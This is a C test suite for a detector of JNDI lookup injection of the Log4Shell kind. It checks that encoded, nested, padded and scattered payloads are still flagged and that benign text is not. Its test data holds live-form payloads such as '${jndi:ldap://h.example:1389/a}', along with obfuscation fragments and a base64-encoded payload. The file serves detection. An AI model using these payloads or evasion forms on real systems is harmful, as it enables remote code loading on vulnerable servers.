/* What must not change a verdict: encoders, padding, other fields, their order. And what must not make one. */
#include "base/limits.h"
#include "detect/verdict.h"
#include "reference.h"
#include "support/gen_encode.h"
#include "support/gen_lookup.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static ct_arena *arena;   /* texts */
static ct_arena *line;    /* one verdict */
static struct rng rng;
#define NAME CT_STR("ldap://h.example:1389/a")

static int set_up(void **state)
{
    (void)state;
    rng = rng_new("verdict");
    return ct_arena_new(&ct_alloc_libc, 64u << 20, &arena) != CT_OK || ct_arena_new(&ct_alloc_libc, CT_LINE_ARENA_MAX, &line) != CT_OK;
}

static int tear_down(void **state)
{
    (void)state;
    ct_arena_free(arena);
    ct_arena_free(line);
    return 0;
}

static struct ct_buf new_buf(void)
{
    struct ct_buf b;
    ct_buf_init(&b, arena, CT_DECODE_MAX);
    return b;
}

static unsigned runs(unsigned n)
{
    const char *more = getenv("CT_RUNS");
    return more ? n * (unsigned)strtoul(more, NULL, 10) : n;
}

static void print_bytes(const char *what, ct_str s)
{
    print_error("%s: ", what);
    for (size_t i = 0; i < s.n; i++)
        if (s.p[i] >= 0x20 && s.p[i] < 0x7f) print_error("%c", s.p[i]);
        else print_error("<%02x>", (unsigned)s.p[i]);
    print_error("\n");
}

static bool in_mail;

static struct ct_verdict judge(const struct ct_field *fields, size_t n)
{
    struct ct_judge_opts opts = {.mail = in_mail};
    struct ct_verdict v;
    ct_arena_clear(line);
    assert_int_equal(ct_judge(line, &opts, fields, n, &v), CT_OK);
    return v;
}

static struct ct_verdict judge_one(ct_str text)
{
    struct ct_field f = {CT_STR("message"), text};
    return judge(&f, 1);
}

static bool is_exploit(const struct ct_verdict *v) { return v->grade == CT_GRADE_EXPLOIT && v->certainty == CT_CERTAIN; }

static ct_str attack(void)
{
    struct ct_buf b = new_buf();
    gen_lookup_attack(&rng, NAME, &b);
    ct_str s;
    assert_int_equal(ct_buf_str(&b, &s), CT_OK);
    return s;
}

/* Layers undone in another order than they were put on may spell another address, and fire all the same: "&#x37%39" is 7 and then 9, or
 * one character past Latin; a value that is half undone may be a date's pattern. Both addresses are named. */
static void expect_exploit(ct_str plain, ct_str text, const char *how)
{
    struct ct_verdict v = judge_one(text);
    bool named = false;
    for (unsigned i = 0; i < v.n_indicators; i++)
        named |= ct_str_eq(v.indicators[i].host, CT_STR("h.example")) && v.indicators[i].port == 1389;
    if (is_exploit(&v) && named) return;
    print_bytes("attack", plain);
    print_bytes("text", text);
    fail_msg("%s: %s, %s, traits %x%s", how, ct_grade_name(v.grade), ct_certainty_name(v.certainty), v.traits, !v.n_indicators ? ", no address" : named ? "" : ", another address");
}

/* Cookies and tokens hold JSON that holds base64, of which some is JSON again. */
static void survives_base64_inside_base64(void **state)
{
    (void)state;
    static const char *const around[][2] = {
        {"{\"user\":\"", "\"}"}, {"{\"alg\":\"HS256\",\"kid\":\"", "\",\"typ\":\"JWT\"}"}, {"<saml>", "</saml>"}, {"a=1;b=", ";c=2"},
        {"id/", "?x=1"},        {"", ":password"},                                         {"", ""},
    };
    for (unsigned i = 0; i < runs(2000); i++) {
        ct_arena_clear(arena);
        ct_str plain = attack(), text = plain;
        if (plain.n > 1000) continue;
        for (unsigned n = 1 + rng_below(&rng, 3); n > 0; n--) {
            size_t k = rng_below(&rng, (uint32_t)(sizeof around / sizeof *around));
            struct ct_buf wrapped = new_buf(), coded = new_buf();
            ct_buf_text(&wrapped, around[k][0]);
            ct_buf_add(&wrapped, text);
            ct_buf_text(&wrapped, around[k][1]);
            gen_encode(&rng, GEN_BASE64, ct_buf_view(&wrapped), &coded);
            assert_int_equal(ct_buf_str(&coded, &text), CT_OK);
        }
        if (!ct_prefilter(text)) fail_msg("the prefilter drops %.*s", (int)text.n, (const char *)text.p);
        expect_exploit(plain, text, "base64 inside base64");
    }
}

/* However many other values stand in the text, all but one of which hold no attack, and need a look. */
static void survives_decoys(void **state)
{
    (void)state;
    static const char *const decoys[] = {"hello &#36; world ", "100% of ${x} and ", "{\"a\":\"\\u0024\"}", "just text of no meaning ", "%24%24 and %7B "};
    for (unsigned i = 0; i < runs(100); i++) {
        ct_arena_clear(arena);
        ct_str plain = attack();
        if (plain.n > 1000) continue;
        struct ct_buf text = new_buf();
        unsigned n = rng_below(&rng, 300), at = rng_below(&rng, n + 1);
        for (unsigned k = 0; k <= n; k++) {
            struct ct_buf value = new_buf();
            if (k == at) ct_buf_add(&value, plain);
            else ct_buf_printf(&value, "%s%u", decoys[rng_below(&rng, sizeof decoys / sizeof *decoys)], k);
            gen_encode(&rng, GEN_BASE64, ct_buf_view(&value), &text);
            ct_buf_byte(&text, ' ');
        }
        ct_str whole;
        assert_int_equal(ct_buf_str(&text, &whole), CT_OK);
        expect_exploit(plain, whole, "among other values");
    }
}

/* Up to three encoders of the sender, and the logger's escaping on top. */
static void survives_every_chain(void **state)
{
    (void)state;
    static const enum gen_layer loggers[] = {GEN_LOG_NGINX, GEN_LOG_APACHE, GEN_LOG_JSON};
    for (unsigned i = 0; i < runs(20000); i++) {
        ct_arena_clear(arena);
        enum gen_layer layers[4];
        unsigned n;
        ct_str plain = attack();
        if (plain.n > 1000) continue;
        struct ct_buf b = new_buf();
        gen_encode_chain(&rng, plain, 3, &b, layers, &n);
        if (rng_below(&rng, 2)) {
            struct ct_buf logged = new_buf();
            layers[n++] = loggers[rng_below(&rng, 3)];
            gen_encode(&rng, layers[n - 1], ct_buf_view(&b), &logged);
            b = logged;
        }
        ct_str text;
        assert_int_equal(ct_buf_str(&b, &text), CT_OK);
        char how[256] = "";
        for (unsigned k = 0; k < n; k++) snprintf(how + strlen(how), sizeof how - strlen(how), "%s; ", gen_layer_name(layers[k]));
        expect_exploit(plain, text, how);
    }
}

/* Up to two encoders of the sender, then mail's; what the search over blocks asks sees it too. */
static void survives_mail(void **state)
{
    (void)state;
    for (unsigned i = 0; i < runs(10000); i++) {
        ct_arena_clear(arena);
        ct_str plain = attack(), text;
        if (plain.n > 600) continue;
        bool words = rng_below(&rng, 2), hidden = false;
        enum gen_layer layers[2];
        unsigned n = 0;
        struct ct_buf inner = new_buf(), b = new_buf();
        if (rng_below(&rng, 2)) gen_encode_chain(&rng, plain, 2, &inner, layers, &n);
        else ct_buf_add(&inner, plain);
        for (unsigned k = 0; k < n; k++) hidden |= layers[k] == GEN_BASE64;
        if (hidden && !words) continue; /* quoted base64 is given up (detect/mail_lead.c) */
        if (words) gen_encode_words(&rng, ct_buf_view(&inner), &b);
        else gen_encode_quoted(&rng, ct_buf_view(&inner), &b);
        assert_int_equal(ct_buf_str(&b, &text), CT_OK);
        char how[128];
        snprintf(how, sizeof how, "%s; %s; %s", n ? gen_layer_name(layers[0]) : "", n > 1 ? gen_layer_name(layers[1]) : "", words ? "words" : "quoted");
        in_mail = !words; /* words count everywhere */
        expect_exploit(plain, text, how);
        in_mail = false;
        uint64_t lines = 0;
        bool found = ct_mail_next(text, 0, true) != CT_STR_NONE || ct_prefilter_next(text, 0, &lines) != CT_STR_NONE;
        if (!found) print_bytes("text", text);
        assert_true(found);
    }
}

/* "=24" is a value in a request, and a '$' in a letter. */
static void quoted_only_in_mail(void **state)
{
    (void)state;
    ct_str text = CT_STR("id=24{jndi:ldap://h.example/a}&x=7B");
    assert_int_equal(judge_one(text).grade, CT_GRADE_NONE);
    in_mail = true;
    assert_int_equal(judge_one(text).grade, CT_GRADE_EXPLOIT);
    in_mail = false;
}

/* Escapes here and there, by hand: where the attack stands in some form, it is found. */
static void survives_scattered_escapes(void **state)
{
    (void)state;
    enum { LAYERS = 4, FORMS = 48 }; /* half of what the search may do */
    ct_str plain = CT_STR("${jndi:ldap://h.example:1389/a}");
    unsigned meant = 0;
    for (unsigned i = 0; i < runs(20000); i++) {
        ct_arena_clear(arena);
        ct_str text = plain;
        for (unsigned layers = 1 + rng_below(&rng, 3); layers > 0; layers--) {
            struct ct_buf b = new_buf();
            gen_escape_some(&rng, text, &b);
            text = ct_buf_view(&b);
        }
        if (!reference_holds(arena, text, plain, LAYERS, FORMS)) continue;
        meant++;
        expect_exploit(plain, text, "scattered escapes");
    }
    print_message("%u hold the attack\n", meant);
    assert_true(meant > 1000);
}

/* Text that people, browsers and programs write, with no "${" open. */
static void put_benign(struct ct_buf *b)
{
    static const char *const words[] = {
        " ", "GET ", "/index.html", "?id=1", "Mozilla/5.0 (X11)", "{", "}", "{}", "$(x)", " $5 ", "100%", "%20", "&nbsp;", "&lt;", "R&D", "\\n",
        "C:\\dir", "a=b", "\"", "'", "(", "${user.name}", "${x}", "${}", "${a:-b}", "}}", "\xc3\xa9", "\xe2\x82\xac", "%C3%A9", "0123456789abcdef",
        "%", "\\", "&", ";", "+", ",", "dGhpcyBpcyBwbGFpbiB0ZXh0IQ==", "\t",
    };
    for (unsigned k = rng_below(&rng, 12); k > 0; k--) ct_buf_text(b, words[rng_below(&rng, sizeof words / sizeof *words)]);
}

/* A '$' at the end of the padding escapes the lookup, and "${a:-b}" may not swallow it; those are other attacks. */
static void survives_padding(void **state)
{
    (void)state;
    for (unsigned i = 0; i < runs(20000); i++) {
        ct_arena_clear(arena);
        ct_str plain = attack();
        struct ct_buf b = new_buf();
        put_benign(&b);
        ct_buf_byte(&b, ' ');
        ct_buf_add(&b, plain);
        ct_buf_byte(&b, ' ');
        put_benign(&b);
        expect_exploit(plain, ct_buf_view(&b), "padding");
    }
}

static void put_hostile(struct ct_buf *b)
{
    static const char *const pieces[] = {"${", "$", "}", "${a:-${a}}", "${java:x}", "${event:Message}", "%24%7B", "\\u0024{", "${${", "${${ctx:u}}",
                                         "&#36;{", "x", " ", "${jndi:", "%25", "\\", "&amp;", "JHtqbmRpOmxkYXA6Ly9oL2F9"};
    for (unsigned k = rng_below(&rng, 10); k > 0; k--) ct_buf_text(b, pieces[rng_below(&rng, sizeof pieces / sizeof *pieces)]);
}

/* Whatever stands in the other fields, in whatever order. */
static void survives_other_fields(void **state)
{
    (void)state;
    for (unsigned i = 0; i < runs(10000); i++) {
        ct_arena_clear(arena);
        struct ct_field fields[6];
        size_t n = 1 + rng_below(&rng, 5), at = rng_below(&rng, (uint32_t)n);
        ct_str plain = attack();
        for (size_t k = 0; k < n; k++) {
            struct ct_buf b = new_buf();
            put_hostile(&b);
            fields[k] = (struct ct_field){CT_STR("other"), k == at ? plain : ct_buf_view(&b)};
        }
        struct ct_verdict v = judge(fields, n);
        if (is_exploit(&v)) continue;
        for (size_t k = 0; k < n; k++) print_bytes("field", fields[k].value);
        fail_msg("%s, %s, traits %x", ct_grade_name(v.grade), ct_certainty_name(v.certainty), v.traits);
    }
}

/* Is a lookup of it not closed? */
static bool goes_on(ct_str text)
{
    unsigned open = 0;
    for (size_t i = 0; i < text.n; i++) {
        if (text.p[i] == '{' && i > 0 && text.p[i - 1] == '$') open++;
        else if (text.p[i] == '}' && open) open--;
    }
    return open > 0;
}

/* One field attacks, the others are benign: the same verdict in every order, and twice in a row. What is behind a lookup that is not
 * closed is read as its rest, and may complete a dead try; and a value that refers to itself, being all the text, does not among others. */
static void order_does_not_matter(void **state)
{
    (void)state;
    for (unsigned i = 0; i < runs(10000); i++) {
        ct_arena_clear(arena);
        struct ct_field fields[4];
        struct ct_buf b = new_buf();
        gen_lookup_line(&rng, &b);
        if (b.n > 2000) continue;
        fields[0] = (struct ct_field){CT_STR("attack"), ct_buf_view(&b)};
        for (size_t k = 1; k < 4; k++) {
            static const char *const benign[] = {"GET /index.html", "curl/8.0 (%20)", "200", "", "a b c", "R&D \\ x"};
            fields[k] = (struct ct_field){CT_STR("benign"), ct_str_from(benign[rng_below(&rng, 6)])};
        }
        struct ct_verdict alone = judge(fields, 1), again = judge(fields, 1);
        assert_int_equal(alone.grade, again.grade);
        assert_int_equal(alone.traits, again.traits);
        assert_int_equal(alone.n_calls, again.n_calls);
        assert_int_equal(alone.n_indicators, again.n_indicators);
        assert_int_equal(alone.n_fires, again.n_fires);
        for (size_t at = 0; at < 4; at++) {
            struct ct_field moved[4];
            for (size_t k = 0, from = 1; k < 4; k++) moved[k] = k == at ? fields[0] : fields[from++];
            struct ct_verdict v = judge(moved, 4);
            if (v.grade == alone.grade && v.certainty == alone.certainty && v.traits == alone.traits) continue;
            if (v.traits & CT_TRAIT_BUDGET) continue;
            bool completes = (v.traits & CT_TRAIT_COMPOSED) && v.grade >= alone.grade && v.grade <= CT_GRADE_ATTEMPT;
            if (completes && ((at < 3 && goes_on(fields[0].value)) || (alone.traits & CT_TRAIT_DOS))) continue;
            print_bytes("attack", fields[0].value);
            for (size_t k = 0; k < 4; k++) print_bytes("field", moved[k].value);
            fail_msg("at %zu: %s %x, alone %s %x", at, ct_grade_name(v.grade), v.traits, ct_grade_name(alone.grade), alone.traits);
        }
    }
}

static void put_random_byte(struct ct_buf *b)
{
    unsigned char c;
    do c = (unsigned char)rng_below(&rng, 256);
    while (c == '{');
    ct_buf_byte(b, c);
}

/* No padding makes a finding of benign text: more of it, noise in '%', random bytes. */
static void benign_stays_benign(void **state)
{
    (void)state;
    for (unsigned i = 0; i < runs(20000); i++) {
        ct_arena_clear(arena);
        struct ct_buf b = new_buf();
        for (unsigned k = 1 + rng_below(&rng, 4); k > 0; k--) {
            put_benign(&b);
            unsigned kind = rng_below(&rng, 3);
            for (unsigned m = rng_below(&rng, 40); m > 0; m--) {
                if (kind == 0) ct_buf_printf(&b, "%%%02X", (unsigned)rng_below(&rng, 256));
                else if (kind == 1) put_random_byte(&b);
            }
        }
        struct ct_verdict v = judge_one(ct_buf_view(&b));
        if (v.grade == CT_GRADE_NONE && v.certainty == CT_CERTAIN) continue;
        print_bytes("text", ct_buf_view(&b));
        fail_msg("%s, %s, traits %x", ct_grade_name(v.grade), ct_certainty_name(v.certainty), v.traits);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(survives_base64_inside_base64), cmocka_unit_test(survives_decoys),
        cmocka_unit_test(survives_every_chain), cmocka_unit_test(survives_scattered_escapes), cmocka_unit_test(survives_mail),
        cmocka_unit_test(quoted_only_in_mail), cmocka_unit_test(survives_padding),    cmocka_unit_test(survives_other_fields),
        cmocka_unit_test(order_does_not_matter), cmocka_unit_test(benign_stays_benign),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
